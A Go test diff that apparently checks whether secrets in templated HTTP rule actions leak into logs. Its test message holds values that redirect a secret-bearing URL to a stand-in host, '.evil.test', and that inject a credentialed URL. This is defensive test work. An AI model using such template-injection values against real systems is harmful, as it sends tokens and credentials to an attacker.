@@ -357,9 +357,11 @@ func TestSecretsOfPost(t *testing.T) {
 		s := newRig(t)
 		end := s.online(&posts{answer: func(int, http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) }})
 		secrets := m{"url": "http://localhost/in?code=geheim", "headers": header("Authorization", "Bearer geheim")}
-		s.rule("r", "SELECT * FROM 'in'", nil, post(secrets))
+		beside := registry.RuleAction{"http": {"url": "http://localhost${b}/in?code=geheim", "confirmationUrl": "http://localhost"}}
+		user := registry.RuleAction{"http": {"url": "${a}", "confirmationUrl": "http://localhost"}}
+		s.rule("r", "SELECT 1 AS x FROM 'in'", nil, post(secrets), beside, user)
 		s.enable()
-		id := s.send("in", "x")
+		id := s.send("in", `{"b":".evil.test","a":"https://bob:geheim@localhost/in?code=geheim"}`)
 		s.end2()
 		told, _ := s.hook.Story(id)
 		all := told.Text()
